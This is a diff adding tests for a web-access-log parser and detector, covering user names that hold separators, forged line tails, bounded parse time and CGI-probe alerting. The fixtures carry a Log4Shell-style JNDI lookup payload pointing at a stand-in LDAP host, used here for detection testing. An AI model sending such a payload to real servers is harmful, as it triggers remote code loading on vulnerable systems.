@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { detectFormat, makeParser } from '../../../lambdas/core/formats/index.js';
+import { MAX_TIME_CANDIDATES } from '../../../lambdas/core/formats/template.js';
 import type { LogRecord, ParseResult } from '../../../lambdas/core/model.js';
+import { scanLines } from '../../support/detector.js';
 
 function ok(result: ParseResult | null): LogRecord {
   assert.ok(result, 'expected a record, got a header/comment skip');
@@ -374,6 +376,49 @@ describe('user agents and referers repeated line after line', () => {
     const c = ok(p.parse(line('-')));
     assert.equal(c.userAgent, '', 'a dash is no agent');
     assert.equal(ok(p.parse(line('curl/8'))).userAgent, 'curl/8');
+  });
+});
+
+describe('a user name holding the separator (it comes from the Authorization header)', () => {
+  const tail = '[01/Mar/2024:00:00:07 +0000] "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "-" "curl/8"';
+  it('is read to the timestamp that follows it, in Apache and Nginx combined', () => {
+    for (const [format, user] of [
+      ['combined', 'a b'],
+      ['combined', 'x [y'],
+      ['combined', 'x [1z'],
+      ['nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"', 'a b [c'],
+    ] as const) {
+      const nginx = format.startsWith('nginx:');
+      const line = `203.0.113.7 - ${user} ${nginx ? tail : tail}`;
+      const r = ok(makeParser(format).parse(line));
+      assert.equal(r.peerIp, '203.0.113.7', `${format} ${user}`);
+      assert.equal(r.target, '/?x=${jndi:ldap://192.0.2.1/a}', `${format} ${user}`);
+      assert.equal(r.status, 404);
+    }
+  });
+  it('a forged line tail inside the user name does not hide the real request', () => {
+    const forged = 'u [01/Mar/2024:00:00:01 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"';
+    const r = ok(makeParser('combined').parse(`203.0.113.7 - ${forged} ${tail}`));
+    assert.equal(r.target, '/?x=${jndi:ldap://192.0.2.1/a}');
+    assert.equal(r.userAgent, 'curl/8');
+  });
+  it(`tries at most ${MAX_TIME_CANDIDATES} places, so a user name full of them costs a bounded time`, () => {
+    const user = Array.from({ length: 1000 }, () => 'a [1').join(' ');
+    const r = makeParser('combined').parse(`203.0.113.7 - ${user} ${tail}`);
+    assert.ok(r && !r.ok, 'the real timestamp lies past the places tried');
+  });
+  it('a log whose first lines all carry such user names is still read as a log', () => {
+    const lines = [
+      ...Array.from({ length: 30 }, (_, i) => `203.0.113.${i} - a b [01/Mar/2024:00:00:0${i % 10} +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8"`),
+      ...Array.from(
+        { length: 40 },
+        (_, i) => `198.51.100.9 - - [01/Mar/2024:00:01:${String(i).padStart(2, '0')} +0000] "GET /cgi-bin/x${i}.cgi HTTP/1.1" 404 5 "-" "curl/8"`,
+      ),
+    ];
+    const { report } = scanLines({ a: lines });
+    assert.equal(report.lines.parsed, 70);
+    assert.equal(report.files[0]?.notLog, undefined);
+    assert.equal(report.alerts[0]?.source, '198.51.100.9');
   });
 });
 
